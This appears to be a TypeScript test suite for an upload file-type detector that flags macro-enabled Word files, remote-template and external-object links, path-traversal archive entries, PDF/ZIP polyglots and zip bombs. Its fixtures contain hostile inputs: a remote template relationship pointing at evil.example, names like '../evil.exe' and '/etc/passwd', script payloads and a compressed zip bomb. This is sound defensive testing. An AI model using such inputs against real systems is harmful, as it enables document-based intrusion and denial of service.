import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'

import { aDocx, aPdf, aZip } from '#tests/support/builders/documents.ts'
import { inflate } from '#tests/support/modules/uploads.ts'

import { documentKind } from './document-kind.ts'

const kindOf = (bytes: Uint8Array) => documentKind(bytes, inflate)

const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const SHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
const TEMPLATE =
  'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
const FETCHED = `<Relationship Type="${TEMPLATE}" Target="https://evil.example/t.dotm" TargetMode="External"/>`

/** An archive after other bytes, which its directory does not account for. */
function withPrefix(prefix: Buffer, archive: Buffer): Buffer {
  const moved = Buffer.concat([prefix, archive])
  const end = moved.length - 22
  const start = moved.readUInt32LE(end + 16) + prefix.length
  moved.writeUInt32LE(start, end + 16)
  for (let index = start; index < end; index += 46 + moved.readUInt16LE(index + 28))
    moved.writeUInt32LE(moved.readUInt32LE(index + 42) + prefix.length, index + 42)
  return moved
}

describe('the kind of a file', () => {
  it('is PDF by its start and its end, with any content in between', () => {
    expect(kindOf(aPdf())).toBe('pdf')
    expect(kindOf(aPdf('PK\u0003\u0004 <script>'))).toBe('pdf')
    expect(kindOf(Buffer.concat([aPdf(), Buffer.from('\r\n\n')]))).toBe('pdf')
  })

  it('is Word by its parts', () => {
    expect(kindOf(aDocx())).toBe('docx')
    expect(kindOf(aDocx({ 'word/media/photo.png': 'x' }))).toBe('docx')
  })

  it.each([
    ['a page of HTML', '<!doctype html><title>CV</title>'],
    ['a picture', '\u0089PNG\r\n\u001A\n'],
    ['a program', 'MZ\u0090\u0000'],
    ['an old Word file', '\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1'],
    ['text', 'Ana Núñez, technician'],
    ['a PDF after other bytes', `GIF89a${aPdf().toString('latin1')}`],
  ])('is none for %s', (_name, text) => {
    expect(kindOf(Buffer.from(text, 'latin1'))).toBe('other')
  })

  it.each([
    ['a zip of other files', aZip({ 'a.txt': 'a' })],
    ['a spreadsheet', aDocx({}, SHEET_TYPE)],
    ['a zip without a main part', aZip({ '[Content_Types].xml': 'x', 'word/other.xml': '<x/>' })],
  ])('is none for %s', (_name, bytes) => {
    expect(kindOf(bytes)).toBe('other')
  })

  it.each([
    ['by its type', aDocx({}, MACRO_TYPE)],
    ['by its part', aDocx({ 'word/vbaProject.bin': 'x' })],
    ['by a part elsewhere', aDocx({ 'evil/VBAPROJECT.bin': 'x' })],
    ['by what it runs', aDocx({ 'word/activeX/activeX1.xml': '<x/>' })],
  ])('detects macros %s', (_name, bytes) => {
    expect(kindOf(bytes)).toBe('macros')
  })

  it.each([
    ['plainly', FETCHED],
    ['in single quotes', FETCHED.replaceAll('"', "'")],
    ['with spaces around the equals signs', FETCHED.replaceAll('=', ' = ')],
    ['on a network share', FETCHED.replace('https:', 'file:')],
    ['with character references', FETCHED.replace('attached', '&#97;tt&#x61;ched')],
    [
      'beside a local template',
      FETCHED.replace(' Target=', ' x="a" Target="/word/t.dotx" Target='),
    ],
    ['after a link to a page', `<Relationship Target="https://cv.example"/>${FETCHED}`],
    ['in UTF-16', Buffer.from(FETCHED, 'utf16le').toString('latin1')],
  ])('a remote template named %s makes it active', (_name, links) => {
    expect(kindOf(aDocx({ 'word/_rels/settings.xml.rels': links }))).toBe('active')
    expect(kindOf(aDocx({ 'word/_rels/Settings2.xml.rels': links }))).toBe('active')
    expect(kindOf(aDocx({ 'customXml/_rels/item1.xml.rels': links }))).toBe('active')
  })

  it('is a document with a local template path and hyperlinks', () => {
    const local = FETCHED.replace('https://evil.example/', 'file:///C:\\Users\\Ana\\')
    const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink'
    const page = `<Relationship Type="${type}" Target="https://cv.example/ana&#39;s" TargetMode="External"/>`
    expect(kindOf(aDocx({ 'word/_rels/settings.xml.rels': local }))).toBe('docx')
    expect(kindOf(aDocx({ 'word/_rels/document.xml.rels': page + page }))).toBe('docx')
  })

  it.each(['image', 'oleObject', 'frame', 'subDocument'])(
    'an external %s in any part makes it active',
    (type) => {
      const kind = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`
      const link = `<Relationship Type="${kind}" Target="http://evil.example/x" TargetMode="External"/>`
      expect(kindOf(aDocx({ 'word/_rels/document.xml.rels': link }))).toBe('active')
      expect(kindOf(aDocx({ 'word/charts/_rels/chart1.xml.rels': link }))).toBe('active')
      expect(kindOf(aDocx({ '_rels/.rels': link }))).toBe('active')
      const inside = link
        .replace('http://evil.example/x', 'media/x.png')
        .replace('External', 'Internal')
      expect(kindOf(aDocx({ 'word/_rels/document.xml.rels': inside }))).toBe('docx')
    },
  )

  it.each(['../evil.exe', 'word/../../evil.xml', '/etc/passwd', String.raw`word\..\x.xml`, 'C:/x'])(
    'is rejected with an entry named %s',
    (name) => {
      expect(kindOf(aDocx({ [name]: '<x/>' }))).toBe('broken')
    },
  )

  it('is rejected if a file has two formats at once', () => {
    const [pdf, docx] = [aPdf(), aDocx()]
    expect(kindOf(Buffer.concat([pdf, docx]))).toBe('broken')
    expect(kindOf(Buffer.concat([docx, pdf]))).toBe('broken')
    expect(kindOf(Buffer.concat([pdf, Buffer.from('<script>alert(1)</script>')]))).toBe('broken')
    // An archive whose comment is the end of a PDF.
    const comment = Buffer.from('\nstartxref\n0\n%%EOF')
    const archive = Buffer.concat([aZip({ 'a.js': 'x' }), comment])
    archive.writeUInt16LE(comment.length, archive.length - comment.length - 2)
    expect(kindOf(Buffer.concat([Buffer.from('%PDF-1.4\n'), archive]))).toBe('broken')
  })

  it('is rejected with data before the archive, or with a duplicate name', () => {
    expect(kindOf(withPrefix(Buffer.alloc(0), aDocx()))).toBe('docx')
    expect(kindOf(withPrefix(Buffer.from('PK<script>alert(1)</script>'), aDocx()))).toBe('broken')
    expect(kindOf(aDocx({ 'word/DOCUMENT.xml': '<x/>' }))).toBe('broken')
  })

  it('is rejected if local header and directory name a file differently', () => {
    const bytes = aDocx({ 'word/x.xml': '<x/>' })
    const index = bytes.indexOf('word/x.xml')
    bytes.write('vbaProject', index)
    expect(kindOf(bytes)).toBe('broken')
  })

  it('is rejected if its text cannot be inflated, or is a zip bomb', () => {
    const bomb = aDocx({ 'word/document.xml': `<x>${' '.repeat(20 * 1024 * 1024)}</x>` })
    expect(bomb.length).toBeLessThan(100_000)
    expect(kindOf(bomb)).toBe('broken')
  })
})

describe('for any bytes', () => {
  it('never throws, and rejects random bytes', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('', '%PDF-', '%PDF-1.7', 'PK', 'PK\u0003\u0004', 'PK\u0005\u0006'),
        fc.uint8Array({ maxLength: 400 }),
        (begin, rest) => {
          const kind = kindOf(Buffer.concat([Buffer.from(begin), rest]))
          expect(['other', 'broken']).toContain(kind)
        },
      ),
    )
  })

  it('rejects truncated documents', () => {
    fc.assert(
      fc.property(fc.constantFrom(aPdf().subarray(0, -1), aDocx()), fc.nat(), (whole, at) => {
        const kind = kindOf(whole.subarray(0, at % whole.length))
        // The end of a PDF may come before its last line break.
        expect(['other', 'broken']).toContain(kind)
      }),
    )
  })

  it('never accepts a document with macros after changing any byte', () => {
    const macros = aDocx({ 'word/vbaProject.bin': 'x' }, MACRO_TYPE)
    fc.assert(
      fc.property(fc.nat(macros.length - 1), fc.integer({ min: 0, max: 255 }), (at, byte) => {
        const changed = Buffer.from(macros)
        changed[at] = byte
        expect(kindOf(changed)).not.toBe('docx')
      }),
      { numRuns: 300 },
    )
  })
})
